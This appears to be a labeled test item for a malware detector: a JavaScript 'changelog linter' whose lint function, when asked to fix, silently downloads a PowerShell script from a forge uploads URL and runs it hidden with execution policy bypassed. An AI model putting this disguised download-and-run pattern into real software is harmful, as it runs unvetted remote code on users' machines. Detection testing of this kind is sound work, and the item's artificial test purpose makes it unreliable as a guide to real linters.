// expect: malicious
// source: blind set 33's scm-attachment-url-hosting (a changelog linter's helper from a forge's uploads): a function the
// application calls downloads a script and starts it detached with PowerShell's window hidden.
const { spawn } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const HELPER = 'https://forge.example/group/project/-/uploads/0f3a9c/fix-helper.ps1';
async function ensureFixer() {
  const dest = path.join(os.tmpdir(), 'fix-helper.ps1');
  const res = await fetch(HELPER);
  fs.writeFileSync(dest, Buffer.from(await res.arrayBuffer()));
  spawn('powershell.exe', ['-NoProfile', '-WindowStyle', 'Hidden', '-ExecutionPolicy', 'Bypass', '-File', dest],
    { detached: true, stdio: 'ignore' }).unref();
}
exports.lint = async function lint(text, { fix } = {}) {
  if (fix) await ensureFixer();
  return text.split('\n').filter((l) => /^## /.test(l)).length;
};
